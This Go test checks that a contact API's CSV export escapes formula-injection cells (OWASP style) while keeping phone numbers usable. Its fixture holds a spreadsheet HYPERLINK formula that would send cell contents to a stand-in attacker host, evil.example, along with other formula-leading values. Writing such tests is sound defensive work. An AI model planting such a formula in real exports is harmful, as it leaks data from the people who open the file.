package api

import (
	"encoding/csv"
	"strings"
	"testing"

	"cidproxy/lookup"
)

// TestExportNeutralisesFormulas (issue 15 item 12): a CSV export never
// starts a cell with = + - @ tab or CR unless it is a phone number made of
// digits and separators (kept usable); text gets a leading single quote
// (OWASP). The old code exported =HYPERLINK(...) as it was.
func TestExportNeutralisesFormulas(t *testing.T) {
	e := newEnv(t)
	c, err := e.db.PutContact(t.Context(), lookup.Contact{
		FirstName: `=HYPERLINK("http://evil.example/?"&A1,"Click")`, LastName: "-2+3", Company: "@SUM(1)",
		Email: "+x@example.com", Street: "\tstreet", City: "\rcity", Remark: "normal",
		Mobile: "+49 171 2345678", Business: "-0301234567", Phonebooks: []string{e.pb["support"]},
	})
	e.must(err)
	for _, path := range []string{"/api/v1/contacts/export", "/api/v1/phonebooks/" + e.pb["support"] + "/export"} {
		r := e.expect(req{method: "GET", path: path, token: e.tok["1003"]}, 200)
		recs, err := csv.NewReader(strings.NewReader(string(r.Body))).ReadAll()
		e.must(err)
		var row map[string]string
		for _, rec := range recs[1:] {
			m := map[string]string{}
			for i, col := range recs[0] {
				m[col] = rec[i]
			}
			if m["remark"] == "normal" {
				row = m
			}
		}
		if row == nil {
			t.Fatalf("%s: contact %s not exported:\n%s", path, c.ID, r.Body)
		}
		want := map[string]string{
			"first_name": `'=HYPERLINK("http://evil.example/?"&A1,"Click")`, "last_name": "'-2+3", "company": "'@SUM(1)",
			"email": "'+x@example.com", "street": "'\tstreet", "city": "'\rcity",
			"mobile_number": "+49 171 2345678", "business_number": "-0301234567",
		}
		for col, w := range want {
			if row[col] != w {
				t.Errorf("%s: %s = %q, want %q", path, col, row[col], w)
			}
		}
	}
}
